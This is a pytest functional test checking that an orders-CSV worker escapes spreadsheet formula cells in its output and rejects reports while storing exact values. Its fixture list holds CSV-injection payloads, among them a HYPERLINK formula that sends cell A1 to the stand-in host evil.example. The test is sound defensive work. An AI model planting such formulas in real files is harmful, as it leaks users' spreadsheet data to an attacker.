"""A hostile upload's formulas reach the reports escaped; the table keeps the exact values."""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import make_orders_stack
from tests.functional.worker_run import get_text, items, put, run_worker
from tests.orders_csv import csv_text, row

pytestmark = pytest.mark.functional

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULAS = (HYPERLINK, "@SUM(1+1)", "+1-1", "-2+3", "\x00=1")


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def test_formula_cells_are_escaped_in_output_and_rejects(aws: str) -> None:
    make_orders_stack()
    rows = [row(_quoted(v)) for v in FORMULAS]
    rows += [row(7), row(8, Region="=1+1", UnitPrice="abc")]  # a rejected row whose raw text starts with =
    etag = put("incoming/hostile.csv", csv_text(rows))
    result = run_worker(aws, "incoming/hostile.csv", etag)
    assert result.code == 0, result.stderr
    loaded = items()
    assert set(loaded) == {*FORMULAS, "7"}  # DynamoDB holds the exact values
    output = get_text("processed/hostile.csv")
    for value in FORMULAS:
        assert "\n" + _quoted("'" + value) + "," in output
    assert "\n7," in output  # an ordinary cell is written as before
    cells = list(csv.reader(io.StringIO(output)))[1:]
    assert [c[0] for c in cells] == ["'" + v for v in FORMULAS] + ["7"]
    assert all(loaded[c[0].removeprefix("'")]["ConfirmationId"] == c[1] for c in cells)
    report = get_text("rejected/hostile.csv.rejects.csv")
    ((line, _reason, raw),) = list(csv.reader(io.StringIO(report)))[1:]
    assert line == "8" and raw.startswith("'=1+1,Canada,")
